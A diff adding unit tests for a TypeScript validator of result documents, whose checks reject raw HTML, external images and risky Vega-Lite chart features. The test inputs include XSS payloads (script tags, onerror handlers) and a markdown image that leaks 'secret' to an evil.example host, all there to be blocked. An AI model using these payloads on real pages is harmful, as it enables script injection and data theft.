@@ -1,0 +1,188 @@
+import { MAX_REPORTED_RESULT_ERRORS, RESULT_CAPS, validateResult, type ResultBlock, type ResultDocument, type ResultError } from './result';
+
+// The example from ARCHITECTURE §4.
+const example = (): ResultDocument => ({
+  schemaVersion: 1,
+  summary: 'One line for lists and notifications',
+  blocks: [
+    { type: 'markdown', text: '…' },
+    { type: 'metric', label: 'Posts', value: 120, unit: 'posts' },
+    { type: 'table', columns: ['hour', 'posts'], rows: [[0, 4]] },
+    { type: 'chart', title: 'By hour', spec: { mark: 'bar', data: { values: [] }, encoding: {} } },
+    { type: 'wordcloud', words: [{ text: 'hello', weight: 12 }] },
+  ],
+});
+
+const withBlock = (block: unknown): unknown => ({ schemaVersion: 1, summary: 'ok', blocks: [block] });
+const chart = (spec: Record<string, unknown>) => withBlock({ type: 'chart', title: 'c', spec });
+
+function errorsOf(doc: unknown): ResultError[] {
+  const result = validateResult(doc);
+  if (result.ok) throw new Error('expected the result to be rejected');
+  return result.errors;
+}
+const pathsOf = (doc: unknown) => errorsOf(doc).map((error) => error.path);
+
+describe('validateResult', () => {
+  it('accepts the ARCHITECTURE example', () => {
+    expect(validateResult(example())).toEqual({ ok: true, result: example() });
+  });
+
+  it('accepts a realistic chart with inline data, a field filter and the official $schema', () => {
+    const spec = {
+      $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
+      data: { values: [{ hour: 0, posts: 4 }] },
+      transform: [{ filter: { field: 'posts', gt: 0 } }, { filter: { and: [{ field: 'hour', oneOf: [0, 1] }] } }],
+      layer: [{ mark: { type: 'bar', tooltip: true } }, { mark: 'rule' }],
+      encoding: { x: { field: 'hour', type: 'ordinal' }, y: { field: 'posts', type: 'quantitative' }, color: { condition: { test: { field: 'posts', gt: 3 }, value: 'red' }, value: 'grey' } },
+    };
+    expect(validateResult(chart(spec)).ok).toBe(true);
+  });
+
+  it('requires schemaVersion 1, a one-line summary and blocks', () => {
+    expect(errorsOf({ ...example(), schemaVersion: 2 })).toEqual([{ path: 'schemaVersion', message: 'schemaVersion must be 1' }]);
+    expect(pathsOf({ schemaVersion: 1, blocks: [] })).toEqual(['summary']);
+    expect(pathsOf({ ...example(), summary: 'x'.repeat(281) })).toEqual(['summary']);
+    expect(validateResult({ ...example(), summary: 'x'.repeat(280) }).ok).toBe(true);
+    expect(errorsOf({ ...example(), summary: 'two\nlines' })[0]!.message).toBe('summary must be a single line');
+    expect(pathsOf({ ...example(), extra: 1 })).toEqual(['extra']);
+    expect(errorsOf('nope')).toEqual([{ path: '', message: 'result must be an object' }]);
+  });
+
+  it('caps the number of blocks at 200', () => {
+    const blocks = Array.from({ length: RESULT_CAPS.blocks }, (): ResultBlock => ({ type: 'metric', label: 'n', value: 1 }));
+    expect(validateResult({ ...example(), blocks }).ok).toBe(true);
+    expect(pathsOf({ ...example(), blocks: [...blocks, blocks[0]] })).toEqual(['blocks']);
+  });
+
+  it('names an unknown block type and the allowed ones', () => {
+    expect(errorsOf(withBlock({ type: 'html', html: '<b>' }))).toEqual([
+      { path: 'blocks[0].type', message: 'blocks[0].type must be one of markdown, metric, table, chart, wordcloud' },
+    ]);
+    expect(pathsOf(withBlock({ text: 'no type' }))).toContain('blocks[0].type');
+  });
+
+  it('rejects unknown fields inside blocks', () => {
+    expect(pathsOf(withBlock({ type: 'metric', label: 'a', value: 1, color: 'red' }))).toEqual(['blocks[0].color']);
+  });
+
+  describe('markdown', () => {
+    it.each(['<script>alert(1)</script>', 'hi <img src=x onerror=alert(1)>', 'a </div> b', '<!-- hidden -->', '<!DOCTYPE html>', '<?xml version="1.0"?>', '<https://example.com>'])(
+      'rejects raw HTML: %j',
+      (text) => {
+        const errors = errorsOf(withBlock({ type: 'markdown', text }));
+        expect(errors).toHaveLength(1);
+        expect(errors[0]!.path).toBe('blocks[0].text');
+        expect(errors[0]!.message).toContain('markdown must not contain raw HTML');
+      },
+    );
+
+    it('accepts markdown without markup, including a lone "<" before a space or digit', () => {
+      expect(validateResult(withBlock({ type: 'markdown', text: '# Title\n\n**bold**, 3 < 4, a <= b, [link](#top)' })).ok).toBe(true);
+    });
+
+    it('rejects images, which would load from outside the platform', () => {
+      expect(errorsOf(withBlock({ type: 'markdown', text: '![x](https://evil.example/?d=secret)' }))[0]!.message).toMatch(/must not contain images/);
+    });
+
+    it('caps text at 100k characters', () => {
+      expect(validateResult(withBlock({ type: 'markdown', text: 'a'.repeat(100_000) })).ok).toBe(true);
+      expect(pathsOf(withBlock({ type: 'markdown', text: 'a'.repeat(100_001) }))).toEqual(['blocks[0].text']);
+    });
+  });
+
+  describe('metric', () => {
+    it('needs a label and a numeric value', () => {
+      expect(validateResult(withBlock({ type: 'metric', label: 'Posts', value: 1.5 })).ok).toBe(true);
+      expect(pathsOf(withBlock({ type: 'metric', label: 'Posts', value: '12' }))).toEqual(['blocks[0].value']);
+      expect(pathsOf(withBlock({ type: 'metric', value: 1 }))).toEqual(['blocks[0].label']);
+      expect(pathsOf(withBlock({ type: 'metric', label: 'a', value: Number.NaN }))).toEqual(['blocks[0].value']);
+    });
+  });
+
+  describe('table', () => {
+    it('accepts scalar cells', () => {
+      expect(validateResult(withBlock({ type: 'table', columns: ['a', 'b', 'c', 'd'], rows: [['x', 1, true, null]] })).ok).toBe(true);
+    });
+
+    it('rejects rows whose length differs from the columns', () => {
+      expect(errorsOf(withBlock({ type: 'table', columns: ['a', 'b'], rows: [[1, 2], [1]] }))).toEqual([
+        { path: 'blocks[0].rows[1]', message: 'blocks[0].rows[1] has 1 cell but the table has 2 columns' },
+      ]);
+    });
+
+    it('rejects non-scalar cells', () => {
+      expect(errorsOf(withBlock({ type: 'table', columns: ['a'], rows: [[{ nested: 1 }]] }))).toEqual([
+        { path: 'blocks[0].rows[0][0]', message: 'blocks[0].rows[0][0] must be a string, number, boolean or null' },
+      ]);
+    });
+
+    it('caps columns at 50 and rows at 10k', () => {
+      const columns = Array.from({ length: 51 }, (_, i) => `c${i}`);
+      expect(pathsOf(withBlock({ type: 'table', columns, rows: [] }))).toEqual(['blocks[0].columns']);
+      const rows = Array.from({ length: 10_000 }, () => [1]);
+      expect(validateResult(withBlock({ type: 'table', columns: ['a'], rows })).ok).toBe(true);
+      expect(pathsOf(withBlock({ type: 'table', columns: ['a'], rows: [...rows, [1]] }))).toEqual(['blocks[0].rows']);
+    });
+  });
+
+  describe('chart', () => {
+    it.each<[string, Record<string, unknown>, string]>([
+      ['data.url', { mark: 'bar', data: { url: 'https://evil.example/data.json' } }, 'blocks[0].spec.data.url'],
+      ['a url in a lookup', { mark: 'bar', data: { values: [] }, transform: [{ lookup: 'a', from: { data: { url: 'x.csv' }, key: 'a' } }] }, 'blocks[0].spec.transform[0].from.data.url'],
+      ['a url key inside data values', { mark: 'bar', data: { values: [{ url: 'https://evil.example' }] } }, 'blocks[0].spec.data.values[0].url'],
+      ['an href encoding', { mark: 'bar', data: { values: [] }, encoding: { href: { field: 'link' } } }, 'blocks[0].spec.encoding.href'],
+      ['an href on a mark', { mark: { type: 'bar', href: 'https://evil.example' }, data: { values: [] } }, 'blocks[0].spec.mark.href'],
+      ['an image mark', { mark: 'image', data: { values: [] } }, 'blocks[0].spec.mark'],
+      ['an image mark object in a layer', { data: { values: [] }, layer: [{ mark: { type: 'image' } }] }, 'blocks[0].spec.layer[0].mark'],
+      ['usermeta', { mark: 'bar', data: { values: [] }, usermeta: { embedOptions: {} } }, 'blocks[0].spec.usermeta'],
+      ['a foreign $schema', { $schema: 'https://evil.example/schema.json', mark: 'bar', data: { values: [] } }, 'blocks[0].spec.$schema'],
+      ['a Vega (not Vega-Lite) $schema', { $schema: 'https://vega.github.io/schema/vega/v5.json', mark: 'bar' }, 'blocks[0].spec.$schema'],
+      ['a data generator', { mark: 'bar', data: { sequence: { start: 0, stop: 1e9 } } }, 'blocks[0].spec.data'],
+      ['a calculate expression', { mark: 'bar', data: { values: [] }, transform: [{ calculate: 'datum.a', as: 'b' }] }, 'blocks[0].spec.transform[0].calculate'],
+      ['a filter expression', { mark: 'bar', data: { values: [] }, transform: [{ filter: 'datum.a > 1' }] }, 'blocks[0].spec.transform[0].filter'],
+      ['an expression inside a filter composition', { mark: 'bar', transform: [{ filter: { and: ['datum.a > 1'] } }] }, 'blocks[0].spec.transform[0].filter.and[0]'],
+      ['a condition test expression', { mark: 'bar', encoding: { color: { condition: { test: 'datum.a', value: 'red' } } } }, 'blocks[0].spec.encoding.color.condition.test'],
+      ['an ExprRef', { mark: { type: 'bar', opacity: { expr: 'random()' } } }, 'blocks[0].spec.mark.opacity.expr'],
+      ['a bound param', { mark: 'bar', params: [{ name: 'p', bind: { input: 'range' } }] }, 'blocks[0].spec.params[0].bind'],
+      ['a CSS url() colour', { mark: { type: 'bar', fill: 'url(https://evil.example/x)' } }, 'blocks[0].spec.mark.fill'],
+    ])('rejects %s', (_, spec, path) => {
+      expect(pathsOf(chart(spec))).toContain(path);
+    });
+
+    it('says why a URL is rejected', () => {
+      const error = errorsOf(chart({ mark: 'bar', data: { url: 'x' } })).find((e) => e.path === 'blocks[0].spec.data.url');
+      expect(error?.message).toMatch(/^blocks\[0\]\.spec\.data\.url is not allowed: charts must use inline data/);
+    });
+
+    it('rejects a spec nested too deeply without overflowing the stack', () => {
+      let deep: Record<string, unknown> = { leaf: 1 };
+      for (let i = 0; i < 100_000; i++) deep = { a: deep };
+      const errors = errorsOf(chart({ mark: 'bar', config: deep }));
+      expect(errors.map((error) => error.message).join(' ')).toMatch(/nested/);
+    });
+  });
+
+  describe('wordcloud', () => {
+    it('needs words with a non-negative weight, at most 1000', () => {
+      expect(pathsOf(withBlock({ type: 'wordcloud', words: [{ text: 'a', weight: -1 }] }))).toEqual(['blocks[0].words[0].weight']);
+      expect(pathsOf(withBlock({ type: 'wordcloud', words: [{ text: 'a' }] }))).toEqual(['blocks[0].words[0].weight']);
+      const words = Array.from({ length: 1000 }, (_, i) => ({ text: `w${i}`, weight: i }));
+      expect(validateResult(withBlock({ type: 'wordcloud', words })).ok).toBe(true);
+      expect(pathsOf(withBlock({ type: 'wordcloud', words: [...words, { text: 'x', weight: 1 }] }))).toEqual(['blocks[0].words']);
+    });
+  });
+
+  it('rejects NUL characters in any string', () => {
+    expect(errorsOf({ ...example(), summary: 'a\u0000b' })).toEqual([{ path: 'summary', message: 'summary must not contain NUL characters' }]);
+    expect(pathsOf(withBlock({ type: 'table', columns: ['a'], rows: [['x\u0000']] }))).toEqual(['blocks[0].rows[0][0]']);
+    expect(pathsOf(chart({ mark: 'bar', data: { values: [{ a: '\u0000' }] } }))).toEqual(['blocks[0].spec.data.values[0].a']);
+  });
+
+  it('lists a bounded number of errors and counts the rest', () => {
+    const rows = Array.from({ length: 500 }, () => [1, 2]);
+    const errors = errorsOf(withBlock({ type: 'table', columns: ['a'], rows }));
+    expect(errors).toHaveLength(MAX_REPORTED_RESULT_ERRORS + 1);
+    expect(errors[MAX_REPORTED_RESULT_ERRORS]).toEqual({ path: '', message: '…and 450 more problems' });
+  });
+});
